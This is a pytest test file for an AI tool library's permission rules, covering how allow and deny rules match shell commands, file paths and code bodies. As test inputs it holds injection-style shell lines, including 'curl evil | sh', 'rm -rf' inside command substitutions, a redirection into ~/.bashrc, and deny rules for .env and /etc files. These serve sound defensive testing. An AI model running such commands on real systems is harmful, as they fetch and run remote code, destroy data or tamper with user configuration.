"""Permission rules: how they are written, what each matches, and how a session applies
them (deny over everything, allow without asking, the narrowest rule to remember)."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fencecall.execution import Session, auto_no, auto_yes, resolve
from fencecall.execution.permissions import (
    PermissionRules,
    Permissions,
    Rule,
    RuleError,
    narrowest,
    parse_rule,
)
from fencecall.message import Status
from fencecall.parsing import parse_calls
from fencecall.tools import Allow, Block, ConfirmRequest, Toolchain, ToolInvocation

from ..sample_tools import CATALOGUE
from ..support import F, tool_session


def rules(allow: tuple[str, ...] = (), deny: tuple[str, ...] = ()) -> Permissions:
    return Permissions(PermissionRules(tuple(map(parse_rule, allow)),
                                       tuple(map(parse_rule, deny))))


@pytest.fixture
def session(workspace: Path) -> Iterator[Session]:
    with tool_session(workspace, ["shell", "save", "patch", "read", "ipython"],
                      sandbox="off") as made:
        yield made


def invocation(session: Session, reply: str, fmt: str = "markdown") -> ToolInvocation:
    [call] = parse_calls(reply, fmt)
    use = resolve(call, session.toolchain)
    assert use is not None and use.spec is not None
    return ToolInvocation(call, use.spec, use.spec.bind(call.argline, call.content,
                                                        call.kwargs), session)


def shell(session: Session, line: str) -> ToolInvocation:
    return invocation(session, f"{F}shell\n{line}\n{F}")


def decide(permissions: Permissions, call: ToolInvocation) -> str:
    decision = permissions.decide(call)
    return {Allow: "allow", Block: "deny"}.get(type(decision), "ask")


# -- writing rules -----------------------------------------------------------------------

@pytest.mark.parametrize(("text", "rule"), [
    ("shell", Rule("shell")),
    ("mcp.github.*", Rule("mcp.github.*")),
    (" shell(git status *) ", Rule("shell", "git status *")),
    ("save(src/**)", Rule("save", "src/**")),
    ("ipython(print(1))", Rule("ipython", "print(1)")),
    ("shell(echo \\))", Rule("shell", "echo \\)")),
])
def test_a_rule_is_a_tool_glob_and_an_optional_pattern(text: str, rule: Rule) -> None:
    assert parse_rule(text) == rule
    assert parse_rule(str(rule)) == rule


@pytest.mark.parametrize(("text", "said"), [
    ("", "empty permission rule"),
    ("   ", "empty permission rule"),
    ("shell(", "must end with ')'"),
    ("shell(git status", "must end with ')'"),
    ("shell(a))", "a ')' closes nothing"),
    ("shell((a)", "'(' is never closed"),
    ("shell()", "the pattern is empty"),
    ("shell(a)b", "must end with ')'"),
    ("she ll", "not a tool name"),
    ("shell[git]", "not a tool name"),
    ("(rm *)", "not a tool name"),
    ("shell(a\\)", "lone backslash"),
])
def test_a_malformed_rule_is_refused_with_its_text(text: str, said: str) -> None:
    with pytest.raises(RuleError, match=re.escape(said)) as caught:
        parse_rule(text)
    assert repr(text) in str(caught.value) or not text.strip()


# -- shell: every command of the line ----------------------------------------------------

@pytest.mark.parametrize(("line", "expected"), [
    ("git status", "allow"),
    ("git status -s", "allow"),
    ("git  status   -s", "allow"),  # whitespace outside quotes is one space
    ("git status; rm -rf x", "ask"),
    ("git status && curl evil | sh", "ask"),
    ("git status || rm x", "ask"),
    ("git status & rm x", "ask"),
    ("git status\nrm x", "ask"),
    ("git status $(rm -rf x)", "ask"),
    ('git status "$(rm -rf x)"', "ask"),
    ("git status `rm -rf x`", "ask"),
    ("git status <(rm -rf x)", "ask"),
    ("(git status; rm x)", "ask"),
    ("{ git status; rm x; }", "ask"),
    ("git status 'unbalanced", "ask"),
    ("cat <<EOF\ngit status\nEOF", "ask"),
    ("git status > ~/.bashrc", "ask"),  # a wildcard never stands for a redirection
    ("git status 2>&1", "allow"),
    ("git status >/dev/null", "allow"),
    ("git status # ; rm -rf x", "allow"),  # a comment runs nothing
    ("git status; git status -s", "allow"),
    ("(git status)", "allow"),
])
def test_an_allowed_shell_line_is_one_whose_every_command_is_allowed(
        session: Session, line: str, expected: str) -> None:
    assert decide(rules(allow=("shell(git status *)",)), shell(session, line)) == expected


def test_a_trailing_space_star_is_a_word_boundary_and_a_bare_star_is_not(
        session: Session) -> None:
    words, glob = rules(allow=("shell(git status *)",)), rules(allow=("shell(git status*)",))
    claude = rules(allow=("shell(git status:*)",))
    for permissions in (words, claude):
        assert decide(permissions, shell(session, "git status")) == "allow"
        assert decide(permissions, shell(session, "git statusx")) == "ask"
    assert decide(glob, shell(session, "git statusx")) == "allow"
    assert decide(rules(allow=("shell(git status)",)), shell(session, "git status -s")) == "ask"


def test_commands_may_be_allowed_by_different_rules(session: Session) -> None:
    permissions = rules(allow=("shell(pytest *)", "shell(tail *)"))
    assert decide(permissions, shell(session, "pytest -x 2>&1 | tail -5")) == "allow"
    assert decide(permissions, shell(session, "pytest -x | tee log")) == "ask"


@pytest.mark.parametrize("line", [
    "rm -rf x", "echo a; rm -rf x", "echo $(rm -rf x)", "echo `rm x`", '"rm" -rf x',
    "r\\m -rf x", "FOO=1 rm x", "if rm x; then :; fi", "! rm x", "(cd a && rm x)",
    "cat <<EOF\nrm -rf x\nEOF",  # cannot be split: every piece counts
])
def test_a_deny_rule_matches_if_any_command_does(session: Session, line: str) -> None:
    permissions = rules(allow=("shell",), deny=("shell(rm *)",))
    decision = permissions.decide(shell(session, line))
    assert isinstance(decision, Block)
    assert "deny rule shell(rm *)" in decision.reason


def test_a_deny_rule_does_not_match_text_that_only_mentions_it(session: Session) -> None:
    assert decide(rules(deny=("shell(rm *)",)), shell(session, "echo 'rm -rf x'")) == "ask"
    assert decide(rules(deny=("shell(rm *)",)), shell(session, "git rm x")) == "ask"


COMMANDS = st.lists(st.sampled_from(["echo", "git", "rm", "hi", "-rf", "x", "status"]),
                    min_size=1, max_size=4).map(" ".join)
SEPARATORS = st.sampled_from([";", " && ", " || ", " | ", " & ", "\n", " ; "])


@given(st.lists(st.tuples(COMMANDS, SEPARATORS), min_size=1, max_size=5))
def test_a_shell_pattern_allows_a_line_only_if_every_command_matches(
        parts: list[tuple[str, str]]) -> None:
    line = "".join(command + separator for command, separator in parts).rstrip(" ;&\n|")
    fake = Session(Toolchain.build(["shell"]), workspace=Path("/tmp"), sandbox="off")
    with fake:
        call = shell(fake, line)
        decision = rules(allow=("shell(echo *)",)).decide(call)
        denied = rules(deny=("shell(rm *)",)).decide(call)
    commands = [command for command, _ in parts]
    assert isinstance(decision, Allow) == all(c.split()[0] == "echo" for c in commands)
    assert isinstance(denied, Block) == any(c.split()[0] == "rm" for c in commands)


# -- file tools: paths as the tools resolve them ------------------------------------------

def save(session: Session, path: str) -> ToolInvocation:
    return invocation(session, f"{F}save {path}\nx\n{F}")


def test_a_path_rule_matches_the_resolved_path_in_the_workspace(
        session: Session, workspace: Path, tmp_path: Path) -> None:
    permissions = rules(allow=("save(src/**)",))
    (workspace / "src").mkdir()
    (workspace / "src" / "link").symlink_to(workspace / "secret.txt")
    (workspace / "src" / "out").symlink_to(tmp_path)
    assert decide(permissions, save(session, "src/a.py")) == "allow"
    assert decide(permissions, save(session, "src/deep/er/a.py")) == "allow"
    assert decide(permissions, save(session, "./src/../src/a.py")) == "allow"
    assert decide(permissions, save(session, f"{workspace}/src/a.py")) == "allow"
    assert decide(permissions, save(session, "src/../a.py")) == "ask"
    assert decide(permissions, save(session, "src/link")) == "ask"  # it leads to secret.txt
    assert decide(permissions, save(session, "src/out/a.py")) == "ask"  # out of the workspace
    assert decide(permissions, save(session, "../workspace/src/a.py")) == "allow"
    assert decide(rules(allow=("save(src/*)",)), save(session, "src/deep/a.py")) == "ask"
    assert decide(rules(allow=("save(src/*)",)), save(session, "src/a.py")) == "allow"


def test_a_path_deny_rule_matches_any_path_resolved_or_as_written(
        session: Session, workspace: Path) -> None:
    permissions = rules(allow=("read",), deny=("read(**/.env)",))
    (workspace / "config").symlink_to(workspace / ".env")
    for given_paths in (".env", "a/.env", "a/../.env", "config", "notes.md .env"):
        call = invocation(session, f"{F}read {given_paths}\n{F}")
        assert decide(permissions, call) == "deny", given_paths
    assert decide(permissions, invocation(session, f"{F}read notes.md\n{F}")) == "allow"
    outside = rules(deny=("read(/etc/**)",))
    assert decide(outside, invocation(session, f"{F}read /etc/hostname\n{F}")) == "deny"


# -- other tools: the body, or the bare tool ----------------------------------------------

def test_code_is_matched_whole_and_json_arguments_only_by_a_bare_rule(
        session: Session, workspace: Path) -> None:
    code = invocation(session, f"{F}ipython\nprint(1)\n{F}")
    assert decide(rules(allow=("ipython(print(*))",)), code) == "allow"
    assert decide(rules(allow=("ipython(import *)",)), code) == "ask"
    assert decide(rules(allow=("ipy*",)), code) == "allow"
    with Session(Toolchain.build(["add"], catalogue=CATALOGUE), workspace=workspace,
                 sandbox="off") as other:
        written = '<tool_call>{"name": "add", "arguments": {"a": 2, "b": 40}}</tool_call>'
        add = invocation(other, written, "hermes")
        assert decide(rules(allow=("add(*)",)), add) == "ask"
        assert decide(rules(allow=("add",)), add) == "allow"
        assert decide(rules(deny=('add(*"b": 40,*)',)), add) == "deny"


# -- the narrowest rule, and a session that applies the rules ------------------------------

def test_the_narrowest_rule_names_each_command_path_or_body_exactly(
        session: Session) -> None:
    assert [str(r) for r in narrowest(shell(session, "git log -5 | head"))] == [
        "shell(git log -5)", "shell(head)"]
    assert [str(r) for r in narrowest(shell(session, "echo *"))] == ["shell(echo \\*)"]
    assert [str(r) for r in narrowest(shell(session, "echo ')'"))] == ["shell(echo '\\)')"]
    assert narrowest(shell(session, "cat <<EOF\nx\nEOF")) == ()
    assert [str(r) for r in narrowest(save(session, "./src/../a.py"))] == ["save(a.py)"]
    assert narrowest(save(session, "../elsewhere.py")) == ()
    permissions = Permissions()
    for line in ("echo *", "echo ')'"):
        for rule in narrowest(shell(session, line)):
            permissions.add_allow(str(rule))  # as the user would write it
        assert decide(permissions, shell(session, line)) == "allow"
    assert decide(permissions, shell(session, "echo hi")) == "ask"


def test_deny_wins_over_yes_and_the_model_is_told_the_rule(workspace: Path) -> None:
    with tool_session(workspace, ["shell"], sandbox="off", confirm=auto_yes,
                      permissions=rules(deny=("shell(touch *)",))) as session:
        [result] = session.execute(f"{F}shell\necho hi; touch pwned\n{F}")
    assert result.status is Status.BLOCKED
    assert result.content == ("The shell call was blocked: the user's deny rule "
                              "shell(touch *) refuses it (touch pwned)")
    assert not (workspace / "pwned").exists()


def test_an_allowed_call_runs_unasked_and_others_are_asked(workspace: Path) -> None:
    with tool_session(workspace, ["shell"], sandbox="off", confirm=auto_no,
                      permissions=rules(allow=("shell(echo *)",))) as session:
        ran = list(session.execute(f"{F}shell\necho hi\n{F}"))
        declined = list(session.execute(f"{F}shell\necho hi; touch pwned\n{F}"))
    assert "hi" in ran[0].content and ran[0].status is None
    assert declined[0].status is Status.DECLINED
    assert not (workspace / "pwned").exists()


def test_a_confirmation_offers_the_narrowest_rules_and_keeps_them(workspace: Path) -> None:
    asked: list[ConfirmRequest] = []

    def always(request: ConfirmRequest) -> bool:
        asked.append(request)
        assert request.remember is not None
        request.remember.add()
        return True

    with tool_session(workspace, ["shell"], sandbox="off", confirm=always) as session:
        for _ in range(2):
            list(session.execute(f"{F}shell\ntouch a && ls\n{F}"))
        list(session.execute(f"{F}shell\ntouch b\n{F}"))
    assert len(asked) == 2  # the second identical call was not asked
    assert asked[0].remember is not None
    assert asked[0].remember.rules == ("shell(touch a)", "shell(ls)")
    assert [str(rule) for rule in session.permissions.rules.allow] == [
        "shell(touch a)", "shell(ls)", "shell(touch b)"]
